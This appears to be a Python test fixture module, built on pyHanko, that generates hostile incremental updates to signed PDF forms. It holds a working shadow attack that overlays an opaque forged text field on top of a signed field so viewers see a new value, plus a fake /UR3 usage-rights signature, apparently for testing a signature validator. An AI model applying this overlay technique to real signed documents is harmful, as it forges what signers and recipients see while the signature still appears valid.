"""Hostile updates of signed forms (TEST ONLY): a shadow attack that overlays a new form
field over an existing one, and an Adobe usage-rights (/Perms /UR3) signature.

- ``overlay_field``: an incremental update adding a text field whose widget has the same
  /Rect as the field ``over`` and an opaque appearance showing ``value``: a reader shows
  the new value where the signer saw the old one, while the signed field is untouched;
- ``with_usage_rights``: ``data`` with a /Perms /UR3 signature dictionary (Reader
  extensions), which grants viewer rights and is not an approval signature.
"""

from __future__ import annotations

import io

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

N = generic.NameObject


def overlay_field(data: bytes, value: str, *, over: str = "ho_ten", name: str = "ho_ten_moi") -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(data))
    form = writer.root["/AcroForm"]
    target = next(f.get_object() for f in form["/Fields"] if f.get_object().get("/T") == over)
    page_ref = target.raw_get("/P")
    page = page_ref.get_object()
    rect = target["/Rect"]
    width, height = float(rect[2]) - float(rect[0]), float(rect[3]) - float(rect[1])
    font = form["/DR"]["/Font"].raw_get("/F1")
    appearance = writer.add_object(generic.StreamObject(generic.DictionaryObject({
        N("/Type"): N("/XObject"), N("/Subtype"): N("/Form"),
        N("/BBox"): generic.ArrayObject(generic.FloatObject(x) for x in (0, 0, width, height)),
        N("/Resources"): generic.DictionaryObject({N("/Font"): generic.DictionaryObject({N("/F1"): font})})}),
        stream_data=b"1 g 0 0 %.2f %.2f re f 0 g BT /F1 12 Tf 2 6 Td (%s) Tj ET" % (
            width, height, value.encode("ascii"))))
    field = writer.add_object(generic.DictionaryObject({
        N("/FT"): N("/Tx"), N("/T"): generic.TextStringObject(name), N("/V"): generic.TextStringObject(value),
        N("/Type"): N("/Annot"), N("/Subtype"): N("/Widget"), N("/F"): generic.NumberObject(4),
        N("/Rect"): generic.ArrayObject(rect), N("/P"): page_ref,
        N("/DA"): generic.TextStringObject("/F1 12 Tf 0 g"),
        N("/AP"): generic.DictionaryObject({N("/N"): appearance})}))
    page[N("/Annots")] = generic.ArrayObject([*page["/Annots"], field])
    writer.update_container(page)
    form[N("/Fields")] = generic.ArrayObject([*form["/Fields"], field])
    writer.update_container(form)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def with_usage_rights(data: bytes) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(data))
    ur = writer.add_object(generic.DictionaryObject({
        N("/Type"): N("/Sig"), N("/Filter"): N("/Adobe.PPKLite"), N("/SubFilter"): N("/adbe.pkcs7.detached"),
        N("/Contents"): generic.ByteStringObject(b"\x30\x03\x02\x01\x01" + b"\x00" * 64),
        N("/ByteRange"): generic.ArrayObject(generic.NumberObject(x) for x in (0, 10, 20, 10)),
        N("/Reference"): generic.ArrayObject([generic.DictionaryObject({
            N("/Type"): N("/SigRef"), N("/TransformMethod"): N("/UR3"),
            N("/TransformParams"): generic.DictionaryObject({
                N("/Type"): N("/TransformParams"), N("/V"): N("/2.2"),
                N("/Form"): generic.ArrayObject([N("/FillIn")])})})])}))
    writer.root[N("/Perms")] = generic.DictionaryObject({N("/UR3"): ur})
    writer.update_root()
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()
